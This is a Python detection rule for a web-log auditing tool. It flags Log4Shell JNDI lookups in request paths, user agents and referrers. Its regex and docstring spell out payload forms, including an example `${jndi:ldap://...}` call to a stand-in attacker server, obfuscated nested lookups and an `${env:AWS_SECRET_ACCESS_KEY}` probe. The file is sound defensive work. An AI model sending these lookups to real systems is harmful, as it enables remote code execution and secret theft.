"""WW1193: Log4Shell-style `${jndi:...}` lookups in request fields."""

from __future__ import annotations

import re

from webwarden.findings import Confidence, Practice, Severity
from webwarden.rules.base import PayloadRule

# NOTE: lower-case, bounded repetition only. Obfuscated forms nest lookups
# (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`): any log4j lookup prefix counts.
_LOOKUP = re.compile(
    r"\$\{\s{0,5}jndi\s{0,5}:"
    r"|\$\{(?:\$\{)?\s{0,5}(?:lower|upper|::-|env|sys|java|base64|date|main|ctx|k8s|docker"
    r"|spring|web|bundle|marker|sd|map|jvmrunargs|event|log4j)\s{0,5}:"
)


class Log4shellLookup(PayloadRule):
    """## What it does
    Finds Log4Shell (CVE-2021-44228) lookups in the request path, query, user agent or
    referrer: `${jndi:ldap://...}` and its obfuscated forms (`${${lower:j}ndi:`,
    `${${::-j}${::-n}${::-d}${::-i}:`, `${env:AWS_SECRET_ACCESS_KEY}`), as sent or
    URL-encoded once or twice. Requests from one client are reported together.

    ## Why is this bad?
    A Python app does not evaluate these strings, but whatever logs them after it may:
    a Java log pipeline (Logstash, Elasticsearch, Solr, Kafka consumers) with an
    unpatched Log4j 2 fetches and runs code from the attacker's server. The requests
    also mark the client as a mass scanner worth blocking.

    ## Example
    ```log
    192.0.2.8 - - [01/May/2024:15:00:00 +0000] "GET / HTTP/1.1" 200 4210 "-" "${jndi:ldap://198.51.100.66:1389/a}"
    ```

    ## Fix
    Ordinary template-like text is not reported:
    ```log
    192.0.2.8 - - [01/May/2024:15:00:00 +0000] "GET /docs?q=%24%7Bname%7D HTTP/1.1" 200 4210 "-" "Mozilla/5.0"
    ```
    Patch Log4j in the Java systems that receive your logs (2.17.1 or later) and block
    the client.

    ## Options
    `[tool.webwarden.logs.log4shell-lookup]`: `threshold` (default 1) and `window`
    (default `"1h"`).

    ## References
    - [CWE-917: Expression Language Injection](https://cwe.mitre.org/data/definitions/917.html)
    - [CVE-2021-44228](https://nvd.nist.gov/vuln/detail/CVE-2021-44228)
    - [Apache Log4j security vulnerabilities](https://logging.apache.org/log4j/2.x/security.html)
    """

    code = "WW1193"
    name = "log4shell-lookup"
    practice = Practice.AUDITING
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    cwe = 917
    message = "{client} sent {count} Log4Shell lookup{s} to {route} {window}: {detail}"
    fix = "patch Log4j in the Java systems that read your logs; block the client"
    pattern = _LOOKUP
    trigger = re.compile(r"\$\{")
    fields = ("target", "agent", "referrer")
